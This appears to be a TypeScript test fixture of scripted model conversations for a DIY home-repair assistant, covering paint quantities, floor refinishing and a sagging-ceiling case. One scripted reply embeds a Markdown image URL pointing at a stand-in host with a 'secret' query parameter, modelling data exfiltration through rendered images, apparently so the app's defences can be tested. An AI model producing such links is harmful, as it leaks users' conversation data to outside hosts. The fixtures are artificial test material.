import type { ModelScript } from './fake-model-server';

/**
 * Conversations the scripted model follows, in integration and browser tests: a paint job that
 * reads an entry, uses a calculator and records the project; a "call a pro" answer that tries
 * to record one anyway.
 */
export const paintQuestion = 'Bedroom repaint: how much paint do I need for 416 sq ft of walls?';
export const paintAnswer =
  '## Paint a bedroom\n\nThe calculator below has your quantities.\n\n### Steps\n1. Move furniture and cover the floor\n2. Caulk gaps along the trim\n3. Cut in the edges\n4. Roll two coats';
export const proQuestion = 'The ceiling in the hall has a long crack and bows down in the middle';

/** A reply whose Markdown image would carry conversation text to another host. */
export const exfiltrationQuestion = 'Show me a picture of the finished accent wall';
export const exfiltrationAnswer =
  'Here is the finished wall: ![x](https://elsewhere.example/p.png?d=secret)';

/** A reply the model holds half written until the test releases it (a reload mid-answer). */
export const heldQuestion = 'Slow answer please: how do I refinish an oak floor?';
export const heldAnswer =
  '## Refinish an oak floor\n\nPlan for a weekend and good ventilation.\n\n1. Empty the room and sand with 36, 60 and 100 grit\n2. Vacuum and tack the dust\n3. Stain if you want a new colour\n4. Brush on three thin coats of polyurethane';

export const scriptedConversations: ModelScript[] = [
  { when: heldQuestion, steps: [{ text: heldAnswer, holdAfterWords: 8 }] },
  { when: exfiltrationQuestion, steps: [{ text: exfiltrationAnswer }] },
  {
    when: 'Bedroom repaint',
    steps: [
      {
        toolCalls: [
          { name: 'search_knowledge', args: { query: 'caulk trim before painting' } },
          { name: 'read_entry', args: { id: 'caulk-baseboards-trim' } },
        ],
      },
      {
        toolCalls: [
          { name: 'material_quantity', args: { material: 'paint', areaSqFt: 416, coats: 2 } },
          {
            name: 'record_project',
            args: {
              title: 'Paint a bedroom',
              difficulty: 'Beginner',
              timelineEstimate: '6-8 hours',
              materials: [
                { name: 'Interior paint', qty: 3, unit: 'gallon', unitCost: 38 },
                { name: 'Painter’s tape', qty: 2, unit: 'roll', unitCost: 6.5 },
              ],
              laborEstimateUsd: 0,
            },
          },
        ],
      },
      { text: paintAnswer },
    ],
  },
  {
    when: 'long crack and bows',
    steps: [
      {
        toolCalls: [
          {
            name: 'record_project',
            args: {
              title: 'Ceiling repair',
              difficulty: 'Advanced',
              timelineEstimate: '2 days',
              materials: [{ name: 'Drywall', qty: 2, unit: 'sheet', unitCost: 15 }],
            },
          },
        ],
      },
      { text: 'A sagging, cracked ceiling needs a structural engineer to look at it. Call a pro.' },
    ],
  },
];
